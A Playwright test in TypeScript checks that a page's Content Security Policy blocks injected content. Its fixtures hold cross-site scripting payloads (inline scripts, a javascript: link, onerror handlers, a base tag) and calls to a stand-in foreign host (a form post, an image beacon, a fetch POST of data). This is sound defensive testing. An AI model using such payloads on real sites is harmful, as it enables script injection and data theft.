import { expect, test } from './support/test.ts';

const FOREIGN = 'https://malo.example.com';

/** What someone may manage to put into the page, by the directive that refuses it; what is marked is pressed. */
const PLANTED: Readonly<Record<string, readonly string[]>> = {
  'script-src-elem': [
    '<script>window.planted = true</script>',
    '<a data-press href="javascript:void(window.planted = true)">x</a>',
    `<script src="${FOREIGN}/a.js"></script>`,
    '<iframe srcdoc="<script>parent.planted = true</script>"></iframe>',
  ],
  'script-src-attr': ['<img src="data:," alt="" onerror="window.planted = true">'],
  'style-src-elem': [
    '<style>body { visibility: hidden }</style>',
    `<link rel="stylesheet" href="${FOREIGN}/a.css">`,
  ],
  'style-src-attr': ['<p style="visibility: hidden">x</p>'],
  'frame-src': [`<iframe src="${FOREIGN}/"></iframe>`],
  'object-src': [`<object data="${FOREIGN}/a.pdf"></object>`],
  'form-action': [
    `<form data-press method="post" action="${FOREIGN}/"><input name="clave" value="1"></form>`,
  ],
  'img-src': [`<img src="${FOREIGN}/a.gif?visita" alt="">`],
  'base-uri': [`<base href="${FOREIGN}/">`],
};

/** What a script that already runs may try next. In a later task: what a driver evaluates itself may make code. */
const TRIED: readonly (() => unknown)[] = [
  () => void document.body.insertAdjacentHTML('beforeend', '<img src="data:,">'),
  () => new Promise((later) => setTimeout(later)).then(() => new Function('window.planted = true')()),
];

// The browser reports what the policy refuses: a directive without a report was not tried.
test('everything planted in the page or tried by a script is refused', async ({
  page,
  problems,
  baseURL,
}) => {
  problems.allow(/content security policy|refused to|requires 'Trusted|trusted ?types/i);
  const requested: string[] = [];
  await page.context().route(`${FOREIGN}/**`, (route) => {
    requested.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await page.route('/', async (route) => {
    const answer = await route.fetch();
    const markup = `${Object.values(PLANTED).flat().join('')}</main>`;
    const html = (await answer.text()).replace('</main>', () => markup);
    return route.fulfill({ response: answer, body: html });
  });
  await page.goto('/');
  for (const pressed of await page.locator('[data-press]').all()) {
    // Sent past the page's own script, which holds any form that is not live.
    await pressed.evaluate((one) =>
      one instanceof HTMLFormElement ? one.submit() : (one as HTMLElement).click(),
    );
  }
  for (const attempt of TRIED) await expect(page.evaluate(attempt)).rejects.toThrow(/TypeError|EvalError/);
  const send = (url: string) => fetch(url, { method: 'POST', body: 'palabras' }).then(() => 'sent');
  await expect(page.evaluate(send, `${FOREIGN}/`)).rejects.toThrow('Failed to fetch');

  const refused = (directive: string) =>
    problems.found.filter((problem) => problem.includes(`violation: ${directive} `)).length;
  const times = Object.entries(PLANTED).map(([directive, { length }]) => [directive, length] as const);
  for (const [directive, least] of [
    ...times,
    ['require-trusted-types-for', TRIED.length],
    ['connect-src', 1],
  ] as const)
    await expect.poll(() => refused(directive), { message: directive }).toBeGreaterThanOrEqual(least);
  const harm = await page.evaluate(() => ({
    ran: 'planted' in window,
    base: document.baseURI,
    hidden: [document.body, ...document.querySelectorAll('main > p')].filter(
      (element) => getComputedStyle(element).visibility === 'hidden',
    ).length,
  }));
  expect(harm).toEqual({ ran: false, base: `${baseURL}/`, hidden: 0 });
  expect(requested).toEqual([]);
});
